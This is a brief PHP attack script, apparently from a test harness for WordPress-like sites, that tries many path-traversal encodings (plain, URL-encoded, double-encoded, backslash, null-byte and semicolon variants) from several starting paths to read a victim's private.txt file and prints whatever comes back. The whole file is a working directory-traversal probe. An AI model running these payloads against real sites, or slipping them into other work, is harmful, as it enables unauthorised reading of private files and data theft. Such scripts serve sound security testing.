<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$file = target()['victim']['label'] . '/media/private.txt';
$ways = ['../../../', '..%2f..%2f..%2f', '%2e%2e/%2e%2e/%2e%2e/', '%252e%252e%252f%252e%252e%252f%252e%252e%252f', '..\\..\\..\\', '..%5c..%5c..%5c', './/../.../..//../', '..;/..;/..;/', '%00/../../../'];
foreach (['/wp-content/uploads/', '/wp-content/', '/wp-admin/', '/'] as $start) {
	foreach ($ways as $way) {
		echo get(target()['attacker']['host'], "$start$way$file");
		echo get(target()['attacker']['host'], "$start$way" . "sites/$file");
	}
}
